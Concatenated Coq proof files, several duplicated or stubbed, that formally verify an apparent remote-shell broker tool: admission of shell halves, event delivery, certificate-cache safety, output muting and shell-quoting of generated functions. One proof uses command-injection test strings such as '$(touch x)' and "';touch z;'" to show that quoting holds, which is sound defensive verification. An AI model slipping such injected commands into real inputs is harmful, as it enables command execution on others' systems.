   slot s (other (sd_dir (st_d x))) <> None).
Proof. exact admission_ready. Qed.

(** Re-arming: in every reachable idle state, outside shutdown, an attempt
    with ANY non-empty key in either direction is accepted — after any number
    of previous shells. *)
Theorem c04_rearm : forall ops x,
  cin (fst (run ops)) = None -> cout (fst (run ops)) = None -> nomore (fst (run ops)) = false ->
  key_missing (sd_key (st_d x)) = false -> accepts (fst (run ops)) x = true.
Proof. intros ops x. apply rearm. apply Inv_reachable. Qed.

(** At shutdown the broker finishes only when no connect call is in progress:
    both slots are empty. *)
Theorem c04_shutdown_waits : forall ops,
  do_done (fst (run ops)) = true ->
  nomore (fst (run ops)) = true /\ cin (fst (run ops)) = None /\ cout (fst (run ops)) = None.
Proof. intros ops. apply do_done_slots. apply Tab_reachable. Qed.

Example c04_example :
  let ops := [OAdmit 1 (mkd DIn (KUni [97]) 1); OAdmit 2 (mkd DOut (KUni [97]) 2); OData 2 [120] (Some ROther);
              ORelease 2; ORelease 1; OAdmit 3 (mkd DOut (KUni [122]) 3)] in
  map o_och (snd (run ops)) =
    [[ONote NConnected 1]; [ONote NConnected 2; ONote NReady 2]; [OPlain [120]; ONote NClosed 2];
     [ONote NClosed 1]; [ONote NGone 1]; [ONote NConnected 3]] /\
  map o_ev (snd (run ops)) = [[]; [EConn]; []; []; [EDisc]; []].
Proof. vm_compute. split; reflexivity. Qed.

From CRS Require Import Model.ProxyOut Proofs.ProxyOutProofs.
(** "Nothing keeps running", over the fine-grained model of proxyOut: in ANY
    state, once the context is cancelled the reader goroutine and the
    forwarding loop can each leave within two of their own steps, whatever the
    queues hold; a stream that ended by itself has no reader left.  The reader
    before the repair (fix: a7c6715) is refuted: after a flood into a stalled
    terminal and a cancel it stays in its error send for ever. *)
Theorem c04_reader_leaves : forall cap s, cancelled s = true ->
  rd (pnext cap (pnext cap s PReaderQuit) PReadCancelled) = RDone.
Proof. exact reader_leaves. Qed.
Theorem c04_forwarder_leaves : forall cap s, cancelled s = true -> fw_done (fw s) = false ->
  fw_done (fw (pnext cap (pnext cap s PDrop) PSelCancel)) = true.
Proof. exact forwarder_leaves. Qed.
Theorem c04_self_end_no_reader : forall cap reads es,
  let s := prun cap (pinit reads) es in fw s = FEndSelf \/ fw s = FEndClosed -> rd s = RDone /\ q s = [].
Proof. exact self_end_no_reader. Qed.
Theorem c04_old_reader_leaks_refuted :
  let s := fold_left (pnext_old 0) leak_run (pinit leak_reads) in
  cancelled s = true /\ fw_done (fw s) = true /\ forall es, rd (fold_left (pnext_old 0) es s) = RErr.
Proof. exact old_reader_leaks. Qed.

From CRS Require Import Model.Events Proofs.EventsProofs.
(** Event listeners (internal/iobroker/events.go): what a listener receives is
    exactly the events processed while it is registered - once each, in order -
    whatever other listeners exist, come or go, including there having been none
    at all while earlier shells lived and died; only the end of Do stops the
    pump, and a running pump empties the event channel, so a broker waiting to
    announce the 513th shell gets its turn.  The pump which gives up when it
    finds nobody to tell is refuted. *)
Theorem c04_listener_gets_its_window : forall cap l ops,
  got_of l (prun cap pinit ops) = s_got (srun cap l sinit ops).
Proof. exact pump_refines. Qed.
Theorem c04_other_listeners_do_not_matter : forall cap l ops,
  got_of l (prun cap pinit ops) = got_of l (prun cap pinit (filter (fun o => negb (about_other l o)) ops)).
Proof. exact others_do_not_matter. Qed.
Theorem c04_pump_keeps_running : forall cap ops, ~ In PStop ops -> p_run (prun cap pinit ops) = true.
Proof. exact pump_keeps_running. Qed.
Theorem c04_pump_drains : forall cap s, p_run s = true -> p_q (prun cap s (repeat PProc (length (p_q s)))) = [].
Proof. exact pump_drains. Qed.
Theorem c04_lazy_pump_refuted :
  exists ops l, got_of l (fold_left (pstep_lazy 1024) ops pinit) <> s_got (srun 1024 l sinit ops).
Proof. exact lazy_pump_refuted. Qed.

From CRS Require Import Model.EventsCap Proofs.EventsCapProofs.
(** Listeners with channels of any capacity, reading at any pace (the pump's send
    blocks while a registered listener's channel is full): in every reachable state
    every registered listener has been handed - received or waiting in its channel -
    exactly the events the pump has taken off the event channel since it
    registered, in order.  A pump which skips full listeners is refuted: a
    listener with a channel of one loses the disconnected event. *)
Theorem c04_no_listener_misses_an_event : forall ops,
  Forall (complete (c_done (crun cinit ops))) (c_ls (crun cinit ops)).
Proof. exact nobody_misses_an_event. Qed.
Theorem c04_best_effort_pump_refuted :
  exists ops, let s := fold_left cstep_drop ops cinit in
    c_done s = [0; 1] /\ map (fun l => l_got l ++ l_box l) (c_ls s) = [[0]].
Proof. exact dropping_pump_refuted. Qed.
