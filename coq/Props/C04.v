From CRS Require Import Lib.Bytes Model.Broker.
Theorem c04_placeholder : cin init = None.
Proof. reflexivity. Qed.
