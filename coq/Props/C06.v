From CRS Require Import Lib.Bytes Model.Broker.
Theorem c06_placeholder : cin init = None.
Proof. reflexivity. Qed.
