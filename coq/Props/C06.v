(** C06 — both halves of a bidirectional /io shell come from the same request. *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01.
Open Scope N_scope.

(** In every reachable state, if the input slot is held by a half of /io
    request [r], the output slot (if occupied) is held by a half of the SAME
    request: halves of different clients are never combined, and an /io half is
    never paired with a unidirectional stream — for every number of requests
    and every admission order (the theorem quantifies over all operation lists). *)
Theorem c06_same_request : forall ops a da b db r,
  cin (fst (run ops)) = Some (a, da) -> cout (fst (run ops)) = Some (b, db) ->
  sd_key da = KBi r -> sd_key db = KBi r.
Proof. exact attached_same_request. Qed.

Theorem c06_same_request_out : forall ops a da b db r,
  cin (fst (run ops)) = Some (a, da) -> cout (fst (run ops)) = Some (b, db) ->
  sd_key db = KBi r -> sd_key da = KBi r.
Proof.
  intros ops a da b db r Ea Eb Ek.
  destruct (attached_same_key ops a da b db Ea Eb) as (_ & _ & E & _). congruence.
Qed.

(** Non-vacuity: the order A.in, B.out, A.out, B.in — the cross-pairing order
    of the repaired defect — pairs A with A and refuses both halves of B. *)
Example c06_example :
  let ops := [OIoReq 1 2 (mkd DIn (KBi 1) 1) (mkd DOut (KBi 1) 1); OIoReq 3 4 (mkd DIn (KBi 3) 3) (mkd DOut (KBi 3) 3);
              OGo 1; OGo 4; OGo 2; OGo 3] in
  cin (fst (run ops)) = Some (1, mkd DIn (KBi 1) 1) /\ cout (fst (run ops)) = Some (2, mkd DOut (KBi 1) 1) /\
  map o_log (snd (run ops)) = [[]; []; [Log LNew 1]; [Log LBadKey 4]; [Log LNew 2]; [Log LDup 3]].
Proof. vm_compute. repeat split; reflexivity. Qed.
