(** C08 — certificate cache: stable identity, safe under torn writes,
    owner-only.  PARTIAL: parsing (txtar, PEM, X509KeyPair) is environment
    described by [load_ok]; that the real parsers satisfy it — a strict prefix
    or single-byte corruption of a cache file either still yields the original
    matching pair or is an error other than 'does not exist' — is CHECKED by
    enumerating every prefix length and corruption classes on every run. *)
From CRS Require Import Lib.Bytes Model.CertCache Proofs.CertProofs.
Open Scope N_scope.

(** For every history of starts, crashes during the write and damage (no
    deletion): every successful start serves the pair of the run that created
    the file, and the file keeps stemming from that pair (never rewritten). *)
Theorem c08_stable : forall load, load_ok load -> forall ops f kp, origin f = Some kp ->
  (forall o, In o ops -> o <> DeleteCache) ->
  origin (fst (chistory load f ops)) = Some kp /\
  Forall (fun r => r = Served kp \/ r = Failed) (snd (chistory load f ops)).
Proof. exact history_stable. Qed.

(** One start: with a file present (complete, torn or damaged) nothing is
    written and only the original pair can be served; with no file the run's
    own fresh pair is generated, saved and served. *)
Theorem c08_start : forall load, load_ok load -> forall f fresh,
  match origin f with
  | Some kp => (fst (get_certificate (load f) fresh) = Served kp \/ fst (get_certificate (load f) fresh) = Failed) /\
               snd (get_certificate (load f) fresh) = None
  | None => get_certificate (load f) fresh = (Served fresh, Some fresh)
  end.
Proof. exact start_safe. Qed.

Theorem c08_missing_regenerated : forall load, load_ok load -> forall fresh ops,
  chistory load FAbsent (Start fresh :: ops) =
  let '(f', out) := chistory load (FComplete fresh) ops in (f', Served fresh :: out).
Proof. exact start_on_absent. Qed.

(** The permission bits used by the source (0600 for the file, 0700 for
    directories; checked against the source on every run) are owner-only;
    0644 / 0755 are not. *)
Theorem c08_modes : owner_only 384 = true /\ owner_only 448 = true /\ owner_only 420 = false /\ owner_only 493 = false.
Proof. exact owner_only_modes. Qed.

Example c08_example :
  let load := fun f => match f with FAbsent => LNotExist | FComplete kp => LOk kp | FTorn kp n => if n <? 700 then LErr else LOk kp | FDamaged _ => LErr end in
  load_ok load /\
  snd (chistory load FAbsent [Start 1; Start 2; CrashDuringWrite 10; Start 3; DeleteCache; Start 4; Damage; Start 5])
  = [Served 1; Served 1; Failed; Served 4; Failed].
Proof.
  split.
  - repeat split; intros; cbn; auto. destruct (n <? 700); auto.
  - vm_compute. reflexivity.
Qed.
