(** C18 — the generated tab_list function lists the documented functions and
    is quote-safe. *)
From CRS Require Import Lib.Bytes Lib.ShLex Model.FuncList Proofs.FuncListProofs.
Open Scope N_scope.

(** The escaping is sound for EVERY byte string: single-quoting the escaped
    text yields one literal word equal to the original, byte for byte. *)
Theorem c18_escape_sound : forall r,
  sh_lex (txt "        echo '" ++ sq_escape r ++ [39]) = Some [txt "echo"; r].
Proof. exact sh_lex_quoted_word. Qed.

(** For every payload the generated text reads back (POSIX word lexing; any
    unquoted shell-special character would make [parse_func] fail) as the
    function header, one [echo] per row with that row as its single literal
    argument, and the closing brace.  No TABDOC text can end the quoting, run
    as shell code, or alter another row. *)
Theorem c18_quote_safe : forall payload,
  parse_func (gen_func_list payload) = Some (rows payload).
Proof. exact gen_func_list_quote_safe. Qed.

(** Non-vacuity: a payload with quote breakers, a command substitution and a duplicate. *)
Example c18_example :
  let p := txt "# TABDOC: f it's $(touch x) `y`
# TABDOC: f it's $(touch x) `y`
# TABDOC: g ';touch z;'
" in
  length (rows p) = 3%nat /\ parse_func (gen_func_list p) = Some (rows p).
Proof. vm_compute. split; reflexivity. Qed.
