(** C18 — the generated tab_list function lists the documented functions and
    is quote-safe. *)
From CRS Require Import Lib.Bytes Lib.Sort Lib.ShLex Model.FuncList Proofs.FuncListProofs Proofs.SortProofs Proofs.FuncListRows.
Open Scope N_scope.

(** The escaping is sound for EVERY byte string: single-quoting the escaped
    text yields one literal word equal to the original, byte for byte. *)
Theorem c18_escape_sound : forall r,
  sh_lex (txt "        echo '" ++ sq_escape r ++ [39]) = Some [txt "echo"; r].
Proof. exact sh_lex_quoted_word. Qed.

(** For every payload the generated text reads back (POSIX word lexing; any
    unquoted shell-special character would make [parse_func] fail) as the
    function header, one [echo] per row with that row as its single literal
    argument, and the closing brace.  No TABDOC text can end the quoting, run
    as shell code, or alter another row. *)
Theorem c18_quote_safe : forall payload,
  parse_func (gen_func_list payload) = Some (rows payload).
Proof. exact gen_func_list_quote_safe. Qed.

(** Non-vacuity: a payload with quote breakers, a command substitution and a duplicate. *)
Example c18_example :
  let p := txt "# TABDOC: f it's $(touch x) `y`
# TABDOC: f it's $(touch x) `y`
# TABDOC: g ';touch z;'
" in
  length (rows p) = 3%nat /\ parse_func (gen_func_list p) = Some (rows p).
Proof. vm_compute. split; reflexivity. Qed.

(** What the rows ARE, for every payload: the formatted cells - the listing
    function's own row plus one per '# TABDOC:' line (first word as name, the
    remainder as description, [Model/FuncList.doc_cell]) - sorted in byte order
    with duplicates removed; membership, strict order (hence one row per
    DISTINCT line) and independence of the order and multiplicity of the tagged
    lines follow. *)
Theorem c18_rows_spec : forall s,
  rows s = compact (sort_bytes (map (fmt_row (col_width (cells s))) (cells s))).
Proof. exact rows_spec. Qed.
Theorem c18_rows_members : forall s r,
  In r (rows s) <-> exists c, In c (cells s) /\ r = fmt_row (col_width (cells s)) c.
Proof. exact rows_members. Qed.
Theorem c18_rows_strictly_sorted : forall s, Sorted.StronglySorted lt_p (rows s).
Proof. exact rows_strictly_sorted. Qed.
Theorem c18_rows_order_independent : forall s1 s2,
  col_width (cells s1) = col_width (cells s2) ->
  (forall c, In c (cells s1) <-> In c (cells s2)) -> rows s1 = rows s2.
Proof. exact rows_order_independent. Qed.
