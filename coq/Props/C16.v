(** C16 — a Perl script wrapped as a shell function still runs as the same
    program: the text-level contract.  (Behavioural equivalence under real
    perl/dash/bash is exercised by the check as a differential test.) *)
From CRS Require Import Lib.Bytes Lib.Utf8 Model.UU Model.Perl Proofs.PerlProofs.
Open Scope N_scope.

(** What perl receives.  [recv] models the receiving side: the shell skips the
    comment lines and assigns to PERL5DB the text between the first pair of
    single quotes; perl takes the text of q{...} up to the matching brace,
    applies y/sb/\47\134/ and unpack("u").  For EVERY non-empty script and
    every file whose function name has no single quote and does not start a
    comment, the result is exactly the cleaned script: nothing in the script
    (quotes, backslashes, braces, any byte) can end the quoting or alter the
    text. *)
Theorem c16_text_perl_receives : forall name raw,
  raw <> [] -> wf_bytes raw ->
  ~ In 39 (func_name name) -> hd 0 (func_name name ++ wrap_pre) <> 35 ->
  recv (from_perl name raw) = Some (snd (clean_perl raw)).
Proof. exact from_perl_received. Qed.

(** The cleaned script is the statement's description: the trimmed script, one
    output line per input line (line numbers preserved), line [i] blanked iff
    lines [0..i] all start with '#', plus a final newline. *)
Theorem c16_cleaned_shape : forall raw, snd (clean_perl raw) = spec_text raw.
Proof. exact clean_perl_spec. Qed.

Theorem c16_cleaned_lines : forall ls i,
  length (blank_lead ls) = length ls /\
  nth i (blank_lead ls) [] = if all_comment_upto ls i then [] else nth i ls [].
Proof. intros ls i. split; [apply blank_lead_length | apply blank_lead_nth]. Qed.

(** The embedded payload never contains a quote, backslash or brace, and the
    substitution is undone exactly by perl's y/sb/\47\134/. *)
Theorem c16_payload_safe : forall p, p <> [] ->
  Forall safe_char (perl_uu p) /\ tr_sb (perl_uu p) ++ [10] = encode p.
Proof.
  intros p Hp. split.
  - apply subst_safe, trim_encode_chars, Hp.
  - unfold perl_uu. rewrite tr_subst by (apply trim_encode_chars, Hp). apply trim_encode, Hp.
Qed.

(** The empty script: the generated text carries no program at all (known finding). *)
Theorem c16_empty_refuted : forall name, recv (from_perl name []) = None \/ In 39 (func_name name).
Proof.
  intros name. destruct (in_dec N.eq_dec 39 (func_name name)) as [H|H]; [right; exact H|left].
  unfold from_perl, recv, sh_sq_value.
  assert (E : forall l, ~ In 39 l -> after_sub [39] l = None).
  { induction l as [|x l IH]; intros Hn; [reflexivity|]. cbn [after_sub bprefix prefixb].
    assert ((39 =? x) = false) as -> by (apply N.eqb_neq; intro; subst; apply Hn; left; reflexivity).
    cbn [andb]. apply IH. intro Hin. apply Hn. right. exact Hin. }
  assert (Hd : forall l, ~ In 39 l -> ~ In 39 (drop_comment_lines l)).
  { intros l Hl. unfold drop_comment_lines. generalize (length l) as fuel. intros fuel. revert l Hl.
    induction fuel as [|f IH]; intros l Hl; [exact Hl|]. cbn [drop_comment_lines_fuel].
    destruct l as [|x r]; [exact Hl|].
    assert (Hs : forall m l r0, after_sub m l = Some r0 -> forall c, In c r0 -> In c l).
    { intros m l0. induction l0 as [|y l0 IH0]; intros r0 Hr c Hc.
      - cbn in Hr. destruct (bprefix m []); [inversion Hr; subst; destruct m; cbn in Hc; destruct Hc|discriminate].
      - cbn [after_sub] in Hr. destruct (bprefix m (y :: l0)).
        + inversion Hr; subst. clear Hr. revert c Hc. generalize (y :: l0) as L. generalize (length m) as n.
          induction n as [|n IHn]; intros L c Hc; [exact Hc|]. destruct L; [destruct Hc|]. right. apply IHn. exact Hc.
        + right. eapply IH0; eassumption. }
    destruct x as [|px]; try exact Hl.
    repeat (destruct px as [px|px|]; try exact Hl).
    destruct (after_sub [10] (35 :: r)) as [r0|] eqn:Ea; [|intros []].
    apply IH. intro Hin. apply Hl. eapply Hs; eassumption. }
  rewrite E; [reflexivity|]. apply Hd.
  intro Hin. apply in_app_or in Hin as [Hin|Hin]; [exact (H Hin)|].
  revert Hin. apply notin_b. reflexivity.
Qed.

(** Non-vacuity: a script with a shebang, lead comments, quotes, backslashes and braces. *)
Example c16_example :
  let raw := txt "#!/usr/bin/perl
# TABDOC: t does it's thing
print 'it''s {a} \ b';
" in
  raw <> [] /\ wf_bytes raw /\ ~ In 39 (func_name (txt "dir/t.pl")) /\
  func_name (txt "dir/t.pl") = txt "t" /\
  recv (from_perl (txt "dir/t.pl") raw) = Some (snd (clean_perl raw)) /\
  fst (clean_perl raw) = txt "# TABDOC: t does it's thing
".
Proof.
  cbv zeta. split; [discriminate|]. split; [apply wf_bytesb_spec; reflexivity|].
  split; [apply notin_b; reflexivity|]. repeat split; vm_compute; reflexivity.
Qed.
