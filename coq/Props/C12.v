(** C12 — -one-shell closes the listener at the first full shell and exits
    after it.  PARTIAL: the decision logic (when the listener is closed, what
    is printed, the exit status) is proved and composed with the broker
    theorems; that net.Listener.Close refuses new connections "shortly" and
    that http.Server.Shutdown lets the attached handlers finish is exercised
    by the harness with real TCP probes. *)
From CRS Require Import Lib.Bytes Model.Broker Model.OneShell Proofs.BrokerProofs Proofs.OneShellProofs Props.C01 Props.C04.
Open Scope N_scope.

(** For every sequence of broker events: with -one-shell the listener is open
    iff no connected event has been handled; without the flag it is never closed. *)
Theorem c12_listener_open_iff : forall one evs, listener_open one evs = negb (one && existsb is_conn evs).
Proof. exact listener_open_iff. Qed.

(** The connected event occurs exactly at full attachment (C04): refused and
    half-attached attempts — any number of them, in any order — never close it. *)
Theorem c12_connected_only_at_full_attachment : forall s x, accepts s x = true ->
  (In (ONote NReady (sd_addr (st_d x))) (o_och (snd (admission s x))) <->
   slot s (other (sd_dir (st_d x))) <> None).
Proof. exact admission_ready. Qed.

Theorem c12_never_without_flag : forall evs, listener_open false evs = true.
Proof. exact never_closed_without_flag. Qed.

(** Closing the listener is an action of the watcher only: it is not an
    operation of the broker, so no stream is cancelled by it (the broker model
    has no such step); after the shell no callbacks are offered and the
    program's exit status is success. *)
Theorem c12_no_help_after : forall e, ~ In PrintHelp (watch true e).
Proof. exact no_help_in_one_shell. Qed.
Theorem c12_exit_success : exit_code (Some (serve_result true true)) = 0 /\ exit_code (Some ErrEOF) = 0.
Proof. split; reflexivity. Qed.

Example c12_example :
  listener_open true [EDisc; EDisc] = true /\ listener_open true [EDisc; EConn] = false /\
  listener_open true (events_of [OAdmit 1 (mkd DIn (KUni [97]) 1); OCancel 1; ORelease 1]) = true /\
  listener_open true (events_of [OAdmit 1 (mkd DIn (KUni [97]) 1); OAdmit 2 (mkd DOut (KUni [97]) 2)]) = false.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** The watcher's table is read off the working tree on every run
    (translator/watcher; per-run obligation c12_tree_watcher: exactly one
    watchIOBEvents, no early return inside a case, and [table_is_watch] of the
    actions found).  What [table_is_watch] means: for both settings of -one-shell
    and both events the actions denoted by the table are those of [watch]. *)
Theorem c12_table_is_watch : forall tbl one_shell e, table_is_watch tbl = true ->
  wacts_eqb (watch_of_table tbl one_shell e) (map Some (watch one_shell e)) = true.
Proof.
  intros tbl one e H. unfold table_is_watch in H. cbn [forallb] in H.
  repeat (apply andb_prop in H; destruct H as [? H]).
  destruct one, e; repeat match goal with Hx : _ && _ = true |- _ => apply andb_prop in Hx; destruct Hx end; assumption.
Qed.
Example c12_watcher_table_example :
  table_is_watch [("EventTypeConnected", "one", "Announce"); ("EventTypeConnected", "one", "CloseListener"); ("EventTypeDisconnected", "notone", "PrintHelp")]%string = true /\
  table_is_watch [("any", "one", "Announce"); ("any", "one", "CloseListener"); ("any", "always", "PrintHelp")]%string = false.
Proof. vm_compute. split; reflexivity. Qed.
