(** C19 — Ctrl+O mutes only shell output, ends by itself after calm, loses
    nothing else.  For every timed event list (all timings, floods, repeated
    Ctrl+O, several cycles): theorems over the mute machine of Model/Mute.v. *)
From CRS Require Import Lib.Bytes Model.Mute Proofs.MuteProofs.
Open Scope Z_scope.

(** Every status / log line is written, in every state. *)
Theorem c19_status_always : forall s now, snd (snd (mstep s (now, Status))) = [Wrote].
Proof. exact status_always. Qed.

(** Without Ctrl+O nothing is ever suppressed (and nothing ever announces muting). *)
Theorem c19_never_suppressed : forall es, no_ctrl_o es ->
  never_dropped (snd (mrun es)) /\ silenced (fst (mrun es)) = false.
Proof. intros es H. apply never_suppressed_from; [apply MInv_init | reflexivity | exact H]. Qed.

(** Muting starts only with Ctrl+O; shell output is dropped iff muted at that instant. *)
Theorem c19_only_ctrl_o_mutes : forall s now e,
  silenced s = false -> silenced (fst (handle s now e)) = true -> e = CtrlO.
Proof. exact only_ctrl_o_mutes. Qed.

Theorem c19_dropped_iff_muted : forall s now,
  snd (snd (mstep s (now, Plain))) = if silenced (fst (advance 3 s now)) then [Dropped] else [Wrote].
Proof. exact plain_dropped_iff_muted. Qed.

(** In every reachable state: while muted, the timer is armed for exactly
    [pause] after the last Ctrl+O / dropped output. *)
Theorem c19_timer_always_armed : forall es, MInv (fst (mrun es)).
Proof. intros es. apply MInv_mrun_from, MInv_init. Qed.

(** Muting ends on its own — no input needed — exactly [pause] (two seconds)
    after the last Ctrl+O / dropped output, and is announced; not before. *)
Theorem c19_unmutes_by_itself : forall s l now,
  silenced s = true -> last s = Some l -> timer s = Some (l + pause) ->
  (now < l + pause -> advance 3 s now = (s, [])) /\
  (l + pause <= now -> advance 3 s now = ({| silenced := false; last := Some l; timer := None |}, [AnnUnmuting])).
Proof. exact advance_muted. Qed.

(** The muted interval in closed form: output at [now] is dropped iff it comes
    less than [pause] after the previous Ctrl+O / dropped output (and restarts
    the calm window); otherwise it is displayed again. *)
Theorem c19_muted_interval : forall s l now,
  silenced s = true -> last s = Some l -> timer s = Some (l + pause) ->
  (now < l + pause ->
     mstep s (now, Plain) = ({| silenced := true; last := Some now; timer := Some (now + pause) |}, ([], [Dropped]))) /\
  (l + pause <= now ->
     mstep s (now, Plain) = ({| silenced := false; last := Some l; timer := None |}, ([AnnUnmuting], [Wrote]))).
Proof. exact plain_while_muted. Qed.

(** Ctrl+O while muted changes nothing. *)
Theorem c19_repeat_ctrl_o : forall s now, silenced s = true -> handle s now CtrlO = (s, [AnnAlready]).
Proof. exact ctrl_o_while_muted. Qed.

Theorem c19_pause_is_two_seconds : pause = 2000.
Proof. reflexivity. Qed.

(** Non-vacuity: a flood sustains the mute, a gap of exactly [pause] ends it, status lines pass throughout. *)
Example c19_example :
  snd (mrun [(0, Plain); (100, CtrlO); (200, Plain); (300, Status); (400, CtrlO); (2199, Plain); (4198, Status);
             (4199, Status); (4200, Plain)]) =
  [([], [Wrote]); ([], [AnnMuting]); ([], [Dropped]); ([], [Wrote]); ([], [AnnAlready]); ([], [Dropped]);
   ([], [Wrote]); ([AnnUnmuting], [Wrote]); ([], [Wrote])].
Proof. vm_compute. reflexivity. Qed.

From CRS Require Import Model.LockOrder Proofs.LockOrderProofs.
(** The locking around Ctrl+O (Model/LockOrder.v: the terminal's lock held by
    goxterm while it runs the control-character handler, Shell.wL, any number
    of concurrent writers): in every state of every run of the repaired code
    either everybody has finished or somebody can move - pressing Ctrl+O while
    output is being written cannot stop the terminal; the handler of the
    unrepaired code (it locked wL itself, with the terminal's lock held)
    dead-locks against a single writer, for ever. *)
Theorem c19_ctrl_o_no_deadlock : forall n sched,
  let s := run_new (linit n) sched in
  all_done_new s = true \/ exists w, pcs (lstep_new s w) <> pcs s.
Proof. exact no_deadlock. Qed.
Theorem c19_old_handler_deadlocks_refuted :
  let s := run_old (linit 1) deadlock_sched in
  kpc s = 1%nat /\ wpc s = [1%nat] /\ forall sched, run_old s sched = s.
Proof. exact old_deadlocks. Qed.
