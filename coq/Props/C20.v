(** C20 — start-up failures and normal exits are reported cleanly, never as a
    crash.  PARTIAL: the model is the control flow of rmain (which step can fail,
    what ends the process, whether the deferred cleanup runs); that
    goxterm.Restore really restores the terminal and that no library panics is
    exercised on the real binary under a pty. *)
From CRS Require Import Lib.Bytes Model.Startup Proofs.StartupProofs.
Open Scope N_scope.

Theorem c20_no_panic : forall c f e, rmain c f e <> Panic.
Proof. exact never_panics. Qed.

(** On every path out — start-up failure, EOF (Ctrl+C / Ctrl+D), -one-shell completion, run-time error — the terminal is not left raw. *)
Theorem c20_terminal_restored : forall c f e code raw why, rmain c f e = Exit code raw why -> raw = false.
Proof. exact terminal_restored. Qed.

(** The first start-up step that cannot succeed decides: non-zero status, and it is the cause reported. *)
Theorem c20_failure_reported : forall c f e cz, first_fault c f = Some cz ->
  exists code, rmain c f e = Exit code false (Some cz) /\ code <> 0.
Proof. exact failure_reported. Qed.

Theorem c20_success_otherwise : forall c f e, first_fault c f = None -> e <> RunError ->
  exists why, rmain c f e = Exit 0 false why.
Proof. exact success_when_nothing_fails. Qed.

Theorem c20_print_template_always : forall c f e, print_template c = true -> rmain c f e = Exit 0 false None.
Proof. exact template_flag_always_works. Qed.

Theorem c20_print_ctrl_i_independent : forall c f f' e e',
  print_template c = false -> print_ctrl_i c = true ->
  log_bad f = log_bad f' -> ctrl_i_missing f = ctrl_i_missing f' -> rmain c f e = rmain c f' e'.
Proof. exact print_ctrl_i_independent. Qed.

(** The repaired defect: using the shell before checking that it could be made is a crash when there is no terminal. *)
Example c20_example :
  rmain {| print_template := false; print_ctrl_i := false; log_set := true; ctrl_i_set := false |}
        {| no_tty := true; bad_listen := true; cache_bad := false; log_bad := false; ctrl_i_missing := false |} Eof
  = Exit 1 false (Some CTTY).
Proof. reflexivity. Qed.
