(** C02 — operator input reaches the attached shell intact, in order and promptly. *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01.
Open Scope N_scope.

(** Whatever the writer does (any kind, any failure point), the lines the
    input proxy writes — each with exactly one newline appended, nothing else
    changed — followed by the lines still queued are exactly the queued lines,
    in order: gap-free, duplicate-free, unmodified.  Lines not yet written stay
    queued, in order, for the next shell. *)
Theorem c02_gap_free_in_order : forall fuel s x,
  flat_map w_data (o_w (snd (deliver fuel s x))) ++ map nl (queue (fst (deliver fuel s x))) = map nl (queue s).
Proof. exact deliver_order. Qed.

(** Only the last written line can be undelivered, and only because its own
    write or flush failed, which ends the shell with an error. *)
Theorem c02_only_own_failure_loses_a_line : forall fuel s x, exists last,
  flat_map w_data (o_w (snd (deliver fuel s x))) = flat_map lio (o_log (snd (deliver fuel s x))) ++ last /\
  (length last <= 1)%nat /\
  (last <> [] -> In (Log (LDisc true) (st_id x)) (o_log (snd (deliver fuel s x)))).
Proof. exact deliver_logged. Qed.

(** Lines go only to the stream holding the input slot. *)
Theorem c02_only_to_attached_shell : forall s o, Inv s -> Tab s ->
  forall w, In w (o_w (snd (step s o))) -> exists sd, cin (fst (step s o)) = Some (wid w, sd).
Proof. exact writes_go_to_cin. Qed.

(** Non-vacuity + promptness in the model: every write is followed by the flush
    its writer kind dictates before the next line; lines entered with no shell
    are held; the failing line is the only one lost. *)
Example c02_example :
  let d := {| sd_dir := DIn; sd_key := KUni [97]; sd_addr := 1; sd_wk := WBoth; sd_wfail := None; sd_ffail := Some 2 |} in
  let ops := [OLine [104]; OAdmit 1 d; OLine [105]; OLine [106]; OLine [107]] in
  map o_w (snd (run ops)) =
    [[]; [WWrite 1 [104; 10]; WFlush 1 true]; [WWrite 1 [105; 10]; WFlush 1 true];
     [WWrite 1 [106; 10]; WFlushFail 1 true]; []] /\
  queue (fst (run ops)) = [[107]].
Proof. vm_compute. split; reflexivity. Qed.

From CRS Require Import Model.OpInput Proofs.OpInputProofs.
(** The operator's side (Model/OpInput.v: Shell.Do's line reader waiting on a
    full line channel, Ctrl+I inserts as goroutines of their own, the broker
    taking lines; every interleaving, any channel capacity): the lines the
    broker has taken are, in order, a prefix of the lines ReadLine returned,
    which are a prefix of what the operator types; an inserted source arrives
    as one whole item.  The reader that does not wait (it parks lines in
    goroutines when the channel is full) is refuted: it permutes them. *)
Theorem c02_operator_lines_in_order : forall cap lines es,
  let s := irun cap lines es in exists rest, entered s = typed_of (taken s) ++ rest.
Proof. exact taken_is_prefix_of_entered. Qed.
Theorem c02_operator_entered_prefix : forall cap lines es,
  let s := irun cap lines es in lines = entered s ++ to_type s.
Proof. exact entered_prefix. Qed.
Theorem c02_insert_whole : forall cap lines es,
  let s := irun cap lines es in
  let pressed := flat_map (fun e => match e with ICtrlI src => [src] | _ => [] end) es in
  whole_inserts (taken s ++ chan s) pressed /\ (forall x, In x (inserts s) -> In x pressed).
Proof. exact inserts_whole. Qed.
Theorem c02_parking_reader_refuted :
  let s := fold_left (inext2 1) reorder_run {| s2 := iinit [[1]; [2]; [3]]; parked := [] |} in
  typed_of (taken (s2 s)) = [[1]; [3]; [2]].
Proof. exact parking_reader_reorders. Qed.
