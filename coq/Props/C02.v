From CRS Require Import Lib.Bytes Model.Broker.
Theorem c02_placeholder : cin init = None.
Proof. reflexivity. Qed.
