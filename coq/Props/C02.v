(** C02 — operator input reaches the attached shell intact, in order and promptly. *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01.
Open Scope N_scope.

(** Whatever the writer does (any kind, any failure point), the lines the
    input proxy writes — each with exactly one newline appended, nothing else
    changed — followed by the lines still queued are exactly the queued lines,
    in order: gap-free, duplicate-free, unmodified.  Lines not yet written stay
    queued, in order, for the next shell. *)
Theorem c02_gap_free_in_order : forall fuel s x,
  flat_map w_data (o_w (snd (deliver fuel s x))) ++ map nl (queue (fst (deliver fuel s x))) = map nl (queue s).
Proof. exact deliver_order. Qed.

(** Only the last written line can be undelivered, and only because its own
    write or flush failed, which ends the shell with an error. *)
Theorem c02_only_own_failure_loses_a_line : forall fuel s x, exists last,
  flat_map w_data (o_w (snd (deliver fuel s x))) = flat_map lio (o_log (snd (deliver fuel s x))) ++ last /\
  (length last <= 1)%nat /\
  (last <> [] -> In (Log (LDisc true) (st_id x)) (o_log (snd (deliver fuel s x)))).
Proof. exact deliver_logged. Qed.

(** Lines go only to the stream holding the input slot. *)
